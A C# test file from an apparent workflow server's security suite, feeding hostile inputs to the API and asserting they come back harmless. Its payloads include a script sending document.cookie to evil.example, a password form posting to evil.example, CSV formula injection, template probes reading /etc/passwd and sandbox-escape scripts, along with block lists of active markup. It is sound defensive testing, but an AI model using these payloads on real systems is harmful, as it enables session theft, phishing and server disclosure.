using System.Net;
using System.Text.Json.Nodes;
using FocWorkflows.Definitions.Catalog;
using FocWorkflows.Server.Tests.Infrastructure;
using Markdig;
using Microsoft.EntityFrameworkCore;
using static FocWorkflows.Server.Tests.Api.Hostile.Hostile;
using static FocWorkflows.Server.Tests.Infrastructure.ApiHttp;
using static FocWorkflows.Server.Tests.Infrastructure.Flow;

namespace FocWorkflows.Server.Tests.Api.Hostile;

/// <summary>Requests the server accepts, whose content is then read back and found harmless.</summary>
public static partial class HostileCorpus
{
    /// <summary>What no HTML we serve may carry: anything that runs, asks for input, loads from elsewhere or redirects.</summary>
    private static readonly string[] ActiveMarkup =
    [
        "<script", "<form", "<input", "<button", "<textarea", "<select", "<img", "<iframe", "<object", "<embed", "<svg", "<style", "<meta",
        "<link", "<base", "javascript:", "data:", "onerror", "onload", "onmouseover", "tracker.example", "style=",
    ];

    /// <summary>What no rendered template or script result may reveal about the server.</summary>
    private static readonly string[] Internals = ["System.", "Fluid", "Jint", "FocWorkflows", "Assembly", ".dll", "root:", "Environment", Environment.MachineName];

    private static IEnumerable<Hostile> DraftsReadBackAsHtml() => new (string Name, string Markdown)[]
    {
        ("a script", "Intro.\n\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>"),
        ("a password form", "Confirm your delegation.\n\n<form action=\"https://evil.example/steal\" method=\"post\"><input type=\"password\" name=\"p\"><button>Sign</button></form>"),
        ("a remote image", "Our logo:\n\n![logo](https://tracker.example/pixel.png?who=reader)"),
        ("an image with onerror", "<img src=\"x\" onerror=\"alert(1)\">"),
        ("an iframe", "<iframe src=\"https://evil.example\"></iframe>"),
        ("a javascript: link", "[Read the annex](javascript:alert(document.domain))"),
        ("an svg with onload", "<svg onload=\"alert(1)\"><circle r=\"5\"/></svg>"),
        ("a data: link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">annex</a>"),
        ("a style sheet and a tracking style", "<style>body{background:url(https://tracker.example/s.png)}</style><p style=\"background:url(https://tracker.example/p.png)\">x</p>"),
        ("a refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">"),
        ("an object and an embed", "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/y.swf\">"),
        ("a base address", "<base href=\"https://evil.example/\">[annex](annex.html)"),
    }.Select(d => Neutralise($"draft read back as HTML: {d.Name}",
        world => world.PostJsonAsync(CoChair, Drafts, new { markdown = d.Markdown, title = "<script>alert(1)</script>" }),
        async (world, response) =>
        {
            var number = (await response.ExpectAsync(HttpStatusCode.Created))["number"]!.GetValue<int>();
            var draft = await world.ReadAsync($"{Drafts}/{number}");
            var redline = await world.ReadAsync($"{Drafts}/{Math.Max(1, number - 1)}/diff/{number}");
            foreach (var html in new[] { Html(draft), Html(redline) })
                Assert.All(ActiveMarkup, marker => Assert.DoesNotContain(marker, html, StringComparison.OrdinalIgnoreCase));
        }));

    private static IEnumerable<Hostile> CommentsReadBackAsCsv() => new[]
    {
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example\",\"Click\")",
    }.Select(formula => Neutralise($"comment read back as CSV: {formula.Replace("\t", "\\t").Replace("\r", "\\r")}",
        world => world.PostJsonAsync(Advisor, Comments, new { paragraph = 1, text = formula }),
        async (world, response) =>
        {
            var stored = (await response.ExpectAsync(HttpStatusCode.Created)).Str("text");
            var rows = Rfc4180.Records(await world.ReadAsync("/api/consultations/{consultation}/dispositions.csv"));
            var cells = rows.Select(r => r[6]).Where(c => c.EndsWith(stored, StringComparison.Ordinal)).ToList();
            // As typed, behind the quote that makes a spreadsheet read it as text.
            Assert.NotEmpty(cells);
            Assert.All(cells, cell => Assert.Equal("'" + stored, cell));
        }));

    private static IEnumerable<Hostile> CommentsReadBackAsMarkdown() => new[]
    {
        "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "[click me](javascript:alert(1))",
        "![](https://tracker.example/pixel.png)", "<a href=\"https://evil.example\">official annex</a>",
    }.Select(text => Neutralise($"comment read back as Markdown: {text}",
        world => world.PostJsonAsync(Advisor, Comments, new { paragraph = 1, text }),
        async (world, response) =>
        {
            await response.ExpectAsync(HttpStatusCode.Created);
            var html = Markdown.ToHtml(await world.ReadAsync("/api/consultations/{consultation}/dispositions.md"),
                new MarkdownPipelineBuilder().UsePipeTables().Build());
            // The whole matrix, every earlier comment too; "javascript:" may stay as words, never as a link.
            Assert.All(["<script", "<img", "<a "], marker => Assert.DoesNotContain(marker, html, StringComparison.OrdinalIgnoreCase));
        }));

    private static IEnumerable<Hostile> LiquidProbes() => new[]
    {
        "{{ input.GetType }}", "{{ input.title.GetType.Assembly.Location }}", "{% for m in input.GetType.GetMethods %}{{ m.Name }}{% endfor %}",
        "{% include '../../appsettings.json' %}", "{% render '/etc/passwd' %}", "{{ now.GetType.FullName }}{{ now.Ticks }}",
        "{{ vars.constructor }}{{ taskForce.GetType.Module }}", "{{ input | inspect }}",
    }.Select((template, i) => Neutralise($"notify template probing .NET members: {template}",
        world => world.SendAsync(Secretariat, "PUT", $"/api/definitions/liquid-{i}", DefinitionJson($"liquid-{i}", "notify", "deliberation.notify",
            new JsonObject { ["audience"] = "list", ["people"] = new JsonArray("secretariat@foc.example"), ["subject"] = Liquid("Probe: " + template), ["body"] = Liquid(template) })),
        async (world, response) =>
        {
            await response.ExpectAsync(HttpStatusCode.OK);
            var instance = await StartPublishedAsync(world, $"liquid-{i}");
            var id = instance.Str("id");
            var mails = await world.App.QueryAsync(db => db.Outbox.Where(o => o.InstanceId == id).Select(o => o.PayloadJson).ToListAsync());
            Assert.All(mails, mail => Assert.All(Internals, marker => Assert.DoesNotContain(marker, mail)));
            Assert.True(mails.Count == 1 || instance.Str("status") == "faulted", $"Neither sent nor faulted: {instance.ToJsonString()}");
        }));

    private static IEnumerable<Hostile> ScriptEscapes() => new[]
    {
        "this.constructor.constructor('return process')()", "importNamespace('System.IO').File.ReadAllText('/etc/passwd')",
        "System.Environment.MachineName", "Function('return this')().clrType", "typeof require === 'undefined' ? 'sandboxed' : require('fs')",
        "(() => globalThis.host || globalThis.process || 'none')()", "Object.getOwnPropertyNames(globalThis).join(',')",
        "[].constructor.constructor('return this')().System", "new Function('return importNamespace')()('System').Environment.MachineName",
    }.Select((script, i) => Neutralise($"script escaping the sandbox: {script}",
        async world =>
        {
            await world.App.PublishAsync(Define($"script-{i}").Variable("x").Start()
                .Node("evil", ControlActivityTypes.SetVariable, new { variable = "x", value = Js(script) }).End().Chain("start", "evil", "end").Build());
            return await world.SendAsync(Chair, "POST", Start, $$"""{"definitionId": "script-{{i}}"}""");
        },
        async (world, response) =>
        {
            var instance = await response.ExpectAsync(HttpStatusCode.Created);
            var value = instance["variables"]?["x"]?.ToJsonString() ?? "";
            Assert.All(Internals.Concat(["process", "importNamespace", "clrType"]), marker => Assert.DoesNotContain(marker, value));
            Assert.Contains(instance.Str("status"), new[] { "faulted", "finished" });
        }));

    private static IEnumerable<Hostile> LegalButOdd() =>
    [
        Neutralise("start: a quoted utf-8 charset",
            world => world.SendAsync(Chair, "POST", Start, """{"definitionId": "hello", "input": {"title": "Déclaration"}}""", contentType: "application/json; charset=\"utf-8\""),
            async (_, response) => Assert.Equal("Déclaration", (await response.ExpectAsync(HttpStatusCode.Created))["input"]!["title"]!.GetValue<string>())),
        Neutralise("comment: text in a right-to-left override",
            world => world.PostJsonAsync(Advisor, Comments, new { paragraph = 1, text = "\u202Etxt.exe" }),
            async (world, response) => Assert.Equal("\u202Etxt.exe", (await response.ExpectAsync(HttpStatusCode.Created)).Str("text"))),
    ];

    private static string Html(string json) => JsonNode.Parse(json)!["html"]!.GetValue<string>();

    private static string DefinitionJson(string id, string nodeId, string type, JsonObject settings) => new JsonObject
    {
        ["id"] = id, ["name"] = id,
        ["activities"] = new JsonArray(
            new JsonObject { ["id"] = "start", ["type"] = ControlActivityTypes.Start },
            new JsonObject { ["id"] = nodeId, ["type"] = type, ["settings"] = settings },
            new JsonObject { ["id"] = "end", ["type"] = ControlActivityTypes.End }),
        ["connections"] = new JsonArray(
            new JsonObject { ["from"] = "start", ["outcome"] = "Done", ["to"] = nodeId },
            new JsonObject { ["from"] = nodeId, ["outcome"] = "Done", ["to"] = "end" }),
    }.ToJsonString();

    private static async Task<JsonObject> StartPublishedAsync(HostileWorld world, string id)
    {
        await (await world.SendAsync(Secretariat, "POST", $"/api/definitions/{id}/publish")).ExpectAsync(HttpStatusCode.OK);
        return await (await world.SendAsync(Chair, "POST", Start, $$"""{"definitionId": "{{id}}"}""")).ExpectAsync(HttpStatusCode.Created);
    }

    /// <summary>Every hostile request, by name.</summary>
    public static readonly IReadOnlyDictionary<string, Hostile> All = new[]
    {
        Malformed(), WrongTypes(), Oversized(), Deep(), MediaTypes(), PathTricks(), Tokens(),
        DraftsReadBackAsHtml(), CommentsReadBackAsCsv(), CommentsReadBackAsMarkdown(), LiquidProbes(), ScriptEscapes(), LegalButOdd(),
    }.SelectMany(c => c).ToDictionary(c => c.Name);
}
